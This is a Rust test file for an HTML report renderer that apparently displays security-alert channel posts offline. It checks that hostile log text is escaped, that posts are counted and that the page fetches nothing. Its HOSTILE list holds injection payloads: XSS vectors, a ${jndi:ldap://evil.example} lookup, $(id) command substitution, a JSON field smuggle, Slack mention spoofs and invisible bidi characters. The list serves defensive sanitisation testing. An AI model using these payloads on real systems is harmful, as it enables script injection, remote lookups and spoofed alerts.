//! The page: hostile text stays text, every post stands on it once, its numbers are those of the play.

use proptest::prelude::*;

use super::*;
use crate::message::samples::{self, event, group_of, hostile_event, report, single};
use crate::message::{Card, compose};

/// What somebody may write into a log to be more than text on a page, by what it is after.
const HOSTILE: &[&str] = &[
    "<!channel> <!here|ops> <@U012AB3CD> <#C012AB3CD> @everyone",
    "<https://evil.example/x|Acknowledge alert>",
    "<a href=https://evil.example>x</a><a href='javascript:alert(1)'>y</a>",
    "<mailto:ciso@corp.example|Contact security>",
    "https://evil.example/a.png //evil.example",
    "`*ALL CLEAR*` ```\n:white_check_mark: resolved ```",
    "x\n:white_check_mark: *RESOLVED by SOC*\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &nbsp;",
    "\u{202e}gro.elpmaxe\u{2066}\u{200b}\u{feff}",
    "\0\x1b[2J\u{9b}2J\r\n",
    "\",\"attachments\":[{\"text\":\"pwn\"}],\"x\":\"",
    "%3Cscript%3Ealert(1)%3C/script%3E %253C",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "</code></p></article></main></body></html><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</title><script src=//evil.example></script>",
    "<!-- --><![CDATA[<b>]]><?php x ?>",
    "<svg onload=alert(1)><use href=data:x#y /></svg>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "{{.Values}} %s ${jndi:ldap://evil.example} $(id)",
    "[x](https://evil.example) ![](https://evil.example)",
    "<plaintext><xmp><textarea><noscript>",
];

/// Every tag that a page may have: name and attributes as they begin.
const TAGS: &[&str] = &[
    "!doctype html",
    "html lang=\"en\"",
    "head",
    "meta ",
    "title",
    "style",
    "body",
    "section aria-label=\"Channel\"",
    "header",
    "main",
    "h1",
    "h2 class=\"day\"",
    "span",
    "span class=\"",
    "dl class=\"",
    "div",
    "div class=\"",
    "dt",
    "dd",
    "figure",
    "figcaption",
    "svg ",
    "symbol id=\"bell\"",
    "path d=\"",
    "use href=\"#bell\"/",
    "rect x=\"",
    "details open",
    "summary",
    "article",
    "p",
    "p class=\"",
    "ul",
    "li",
    "i class=\"dot ",
    "b",
    "code",
    "kbd",
    "time datetime=\"",
    "footer",
];

fn post(message: Message) -> Post {
    Post { at: samples::now(), alerts: 1, groups: 1, new: [].into(), message }
}

fn one_page(posts: impl IntoIterator<Item = Post>) -> String {
    let mut channel = Channel::new("soc".into(), vec![("pace", "1s 200ms".into())]);
    for post in posts {
        channel.played.posts += 1;
        channel.post(post);
    }
    page(&[channel], "eve.json", samples::now())
}

fn is_ours(tag: &str) -> bool {
    let first = |tag: &str| tag.split(' ').next().map(str::to_owned);
    if let Some(name) = tag.strip_prefix('/') {
        return TAGS.iter().any(|known| first(known).as_deref() == Some(name));
    }
    let known = TAGS.iter().any(|known| match known.ends_with(['"', ' ']) {
        true => tag.starts_with(known),
        false => tag == *known,
    });
    let acts = |word: &str| word.starts_with("on") || word.contains("script");
    known && !tag.contains("//") && !tag.split_whitespace().any(acts)
}

/// The text between the tags, as a reader sees it. Every tag must be one of ours, without a further attribute.
#[track_caller]
fn visible(page: &str) -> String {
    let (_, body) = page.split_once("<body>").unwrap();
    let mut text = String::new();
    let mut parts = body.split('<');
    text.push_str(parts.next().unwrap());
    for part in parts {
        let (tag, behind) = part.split_once('>').unwrap_or_else(|| panic!("an open tag: <{part}"));
        assert!(is_ours(tag), "not ours: <{tag}>");
        text.push_str(behind);
    }
    for (entity, character) in
        [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&amp;", "&")]
    {
        text = text.replace(entity, character);
    }
    text
}

/// A text where it is sanitised, and where somebody forgot to.
#[track_caller]
fn check(text: &str) {
    let event = hostile_event(&[text.to_owned()]);
    let group = group_of(&event, "K7Q2M9XA");
    let mut message = compose(&report(vec![single(&group, &event)]));
    let raw = Line(vec![
        Span::Quote(text.to_owned()),
        Span::Words(text.to_owned()),
        Span::Strong(text.to_owned()),
        Span::Command(text.to_owned()),
    ]);
    message.cards.push(Card {
        id: Some(text.to_owned()),
        title: raw.clone(),
        facts: vec![(text.to_owned(), raw.clone())],
        evidence: vec![(text.to_owned(), text.to_owned())],
        ..message.cards[0].clone()
    });
    message.mention = Some(text.to_owned());
    message.footer = raw.clone();
    message.headline = raw;
    let mut channel = Channel::new(text.to_owned(), vec![("match", text.to_owned())]);
    channel.played.posts = 1;
    channel.post(post(message));
    let page = page(&[channel], text, samples::now());
    let hidden = page.chars().find(|c| is_invisible(*c) && *c != '\n');
    assert_eq!(hidden, None, "{text:?}");
    let shown: String =
        text.chars().map(|c| if is_invisible(c) { '\u{fffd}' } else { c }).collect();
    // Name, setting, logs, mention; four spans in headline, title, fact and footer; label, id and evidence.
    let times = visible(&page).matches(&shown).count();
    assert!(times > 4 + 16, "{text:?} is shown {times} times");
}

#[test]
fn hostile_text_stays_text() {
    for text in HOSTILE {
        check(text);
    }
}

proptest! {
    #[test]
    fn any_text_stays_text(text in "[<>&\"'=/! a-z\\-\\PC]{1,40}") {
        check(&text);
    }
}

fn numbered(number: usize) -> Post {
    let event = event();
    let group = group_of(&event, "K7Q2M9XA");
    let mut message = compose(&report(vec![single(&group, &event)]));
    message.headline = Line::new().words(format!("headline {number:04}."));
    post(message)
}

#[test]
fn every_post_stands_there_once_and_the_rest_is_told() {
    let page = one_page((0..POSTS_MAX).map(numbered));
    assert_eq!(page.matches("<article>").count(), POSTS_MAX);
    for number in 0..POSTS_MAX {
        assert_eq!(page.matches(&format!("headline {number:04}.")).count(), 1, "{number}");
    }
    assert!(!page.contains("not on this page"));

    let page = visible(&one_page((0..POSTS_MAX + 7).map(numbered)));
    assert!(!page.contains("headline 0300."));
    assert!(
        page.contains("Shown are the first 300 of 307 posts; 7 more are not on this page."),
        "{page}"
    );
    assert!(visible(&one_page([])).contains("Nothing would have been posted."));
}

#[test]
fn the_numbers_are_those_of_the_play() {
    let mut channel = Channel::new("soc".into(), Vec::new());
    channel.played = Played {
        alerts: 1_234_567,
        told: 1_000_000,
        muted: 234_000,
        not_matched: 560,
        posts: 43,
        groups: 999,
    };
    let page = page(&[channel], "eve.json", samples::now());
    for (what, number) in [
        ("alerts", "1,234,567"),
        ("posts", "43"),
        ("groups", "999"),
        ("told", "1,000,000"),
        ("muted", "234,000"),
        ("not matched", "560"),
        ("unaccounted", "7"),
    ] {
        let tile = format!("<dt>{what}</dt><dd>{number}</dd>");
        assert!(page.contains(&tile), "{tile}");
    }
}

#[test]
fn nothing_is_fetched() {
    let page = one_page([numbered(1)]);
    for word in ["http:", "https:", "url(", "@import", "<script", "<link", "<img", "src="] {
        assert!(!page.contains(word), "{word}");
    }
    assert!(page.starts_with("<!doctype html>\n"));
    assert!(page.contains("default-src 'none'"));
}

/// Relative luminance of `rrggbb` (WCAG 2.2, "relative luminance").
fn luminance(colour: &str) -> f64 {
    let colour = u32::from_str_radix(colour, 16).unwrap();
    let part = |shift: u32| {
        let part = f64::from(colour >> shift & 0xff) / 255.0;
        if part <= 0.040_45 { part / 12.92 } else { ((part + 0.055) / 1.055).powf(2.4) }
    };
    0.2126 * part(16) + 0.7152 * part(8) + 0.0722 * part(0)
}

/// Text has a contrast of 4.5 to 1 on its ground, by day and by night (WCAG 2.2, 1.4.3).
#[test]
fn text_can_be_read_by_day_and_by_night() {
    let (day, night) = STYLE.split_once("prefers-color-scheme: dark").unwrap();
    for theme in [day, night] {
        let colour = |name: &str| {
            let (_, behind) = theme.split_once(&format!("--{name}: #")).unwrap();
            luminance(behind.split(';').next().unwrap())
        };
        for (text, ground) in [
            ("text", "ground"),
            ("text", "panel"),
            ("text", "line"),
            ("soft", "ground"),
            ("soft", "panel"),
            ("link", "ground"),
            ("code", "code-ground"),
            ("mention", "mention-ground"),
        ] {
            let (text_is, ground_is) = (colour(text), colour(ground));
            let (light, dark) = (text_is.max(ground_is), text_is.min(ground_is));
            let contrast = (light + 0.05) / (dark + 0.05);
            assert!(contrast >= 4.5, "{text} on {ground}: {contrast:.2}");
        }
    }
}

#[test]
fn mentions_are_shown_as_the_channel_shows_them() {
    for (mention, shown) in
        [("<!here>", "@here"), ("<!subteam^S1>", "<!subteam^S1>"), ("<@U1>", "<@U1>")]
    {
        assert_eq!(called(mention), shown);
    }
}
